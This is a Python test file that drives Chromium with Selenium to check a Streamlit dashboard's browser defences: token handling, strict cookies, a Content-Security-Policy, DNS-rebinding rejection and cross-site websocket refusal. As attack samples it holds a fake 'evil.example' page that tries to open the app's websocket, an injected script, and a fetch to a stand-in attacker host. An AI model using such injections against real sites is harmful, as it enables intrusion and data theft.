"""The page in a real browser, among pages of strangers: what they read of it, and what its own rules let it do."""

from __future__ import annotations

import re
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.pipeline.dashboard.web.browser.browsing import ALONE, DONE, click, wait_for
from tests.pipeline.dashboard.web.browser.served import Served, serve
from tests.requirements import require_browser, require_streamlit

if TYPE_CHECKING:
    from selenium.webdriver.chrome.webdriver import WebDriver

pytestmark = pytest.mark.slow

_FOREIGN = """<!doctype html><title>waits</title><a href="{link}">look</a><iframe src="{page}"></iframe><script>
const socket = new WebSocket("{page}/_stcore/stream".replace("http", "ws"), ["streamlit"])
socket.onopen = () => document.title = "reads"
socket.onerror = () => document.title = "refused"
</script>"""


@pytest.fixture(scope="module")
def served(hand_made_lake: Path) -> Iterator[Served]:
    require_streamlit()
    require_browser()
    with serve(hand_made_lake, "--host", "0.0.0.0") as running:  # noqa: S104 - what is tested
        yield running


@pytest.fixture(scope="module")
def browser(served: Served, tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebDriver]:
    """A browser for which the names of a stranger lead to this machine."""
    from selenium import webdriver  # noqa: PLC0415 - not without a browser

    options = webdriver.ChromeOptions()
    options.binary_location = str(shutil.which("chromium"))
    profile = f"--user-data-dir={tmp_path_factory.mktemp('profile')}"
    for option in (*ALONE, profile, "--host-resolver-rules=MAP *.example 127.0.0.1"):
        options.add_argument(option)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(options, webdriver.ChromeService(shutil.which("chromedriver")))
    yield driver
    driver.quit()


@pytest.fixture
def stranger(served: Served) -> Iterator[str]:
    """The address of a page that is not ours, and that links to ours."""
    page = f"http://localhost:{served.port}"
    content = _FOREIGN.format(page=page, link=f"{page}/clients").encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"evil.example:{server.server_port}"
        server.shutdown()


def link(served: Served, path: str = "/?") -> str:
    found = re.search(r"token=\S+", served.printed())
    assert found is not None
    return f"http://localhost:{served.port}{path}{found[0]}"


def violations(browser: WebDriver) -> list[str]:
    return [entry["message"][:300] for entry in browser.get_log("browser") if "Content Security" in entry["message"]]


def test_the_link_opens_the_page_and_is_gone(browser: WebDriver, served: Served) -> None:
    browser.get(f"http://localhost:{served.port}/")
    wait_for(browser, "body", "open the link that")
    browser.get(link(served))
    wait_for(browser, "h1", "Incidents")
    assert "token" not in browser.current_url
    (kept,) = [one for one in browser.get_cookies() if one["name"].startswith("wirelake-page")]
    assert (kept["httpOnly"], kept["sameSite"]) == (True, "Strict")
    assert "wirelake" not in browser.execute_script("return document.cookie")


def test_its_pages_work_under_their_policy(browser: WebDriver, served: Served) -> None:
    from selenium.webdriver.common.by import By  # noqa: PLC0415

    browser.get(link(served))
    browser.get_log("browser")
    for page in ("findings", "incident", "partitions", "transactions", "clients", "latency", "exchanges", "query"):
        browser.get(f"http://localhost:{served.port}/{'' if page == 'findings' else page}")
        wait_for(browser, DONE)
        wait_for(browser, "h1")
        if page in ("incident", "partitions", "latency"):
            wait_for(browser, ".vega-embed")  # draws without eval
        assert browser.find_elements(By.CSS_SELECTOR, "[data-testid=stException]") == []
    assert violations(browser) == []
    # What a script that was smuggled in would do.
    browser.execute_script(
        "const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s)"
    )
    browser.execute_script("fetch('http://evil.example:1/').catch(() => 0)")
    assert browser.execute_script("return window.ran") is None
    refused = " ".join(violations(browser))
    assert "script-src" in refused
    assert "connect-src" in refused


def test_sql_of_the_address_waits_for_the_button(browser: WebDriver, served: Served) -> None:
    from selenium.webdriver.common.by import By  # noqa: PLC0415

    browser.get(link(served, "/query?sql=SELECT%204711%20AS%20n&"))
    wait_for(browser, "[data-testid=stAlert]", "This query came with the address")
    assert browser.find_elements(By.CSS_SELECTOR, "[data-testid=stDataFrame]") == []  # before: the answer
    click(browser, "button", "Run")
    wait_for(browser, "[data-testid=stDataFrame]")


@pytest.mark.parametrize("path", ["/", "/static/js/", "/_stcore/host-config"])
def test_a_name_that_leads_here_suddenly_shows_nothing(browser: WebDriver, served: Served, path: str) -> None:
    browser.get(link(served))
    browser.get(f"http://rebound.example:{served.port}{path}")
    wait_for(browser, "body", "This page does not answer to that name")  # before: the page


@pytest.mark.parametrize("name", ["evil.example", "localhost"])
def test_a_page_of_a_stranger_reads_nothing_and_may_link(
    browser: WebDriver, served: Served, stranger: str, name: str
) -> None:
    from selenium.webdriver.support.wait import WebDriverWait  # noqa: PLC0415

    browser.get(link(served))
    wait_for(browser, "h1", "Incidents")
    browser.get_log("browser")
    browser.get(f"http://{stranger.replace('evil.example', name)}/")
    WebDriverWait(browser, 30).until(lambda driver: driver.title != "waits")
    assert browser.title == "refused"  # before, from another port of this machine: reads
    assert any("frame" in entry["message"].lower() for entry in browser.get_log("browser"))
    click(browser, "a", "look")
    if name == "evil.example":  # another site: its link takes no cookie along, the page's own does
        click(browser, "a", "continue")
    wait_for(browser, "h1", "Clients")
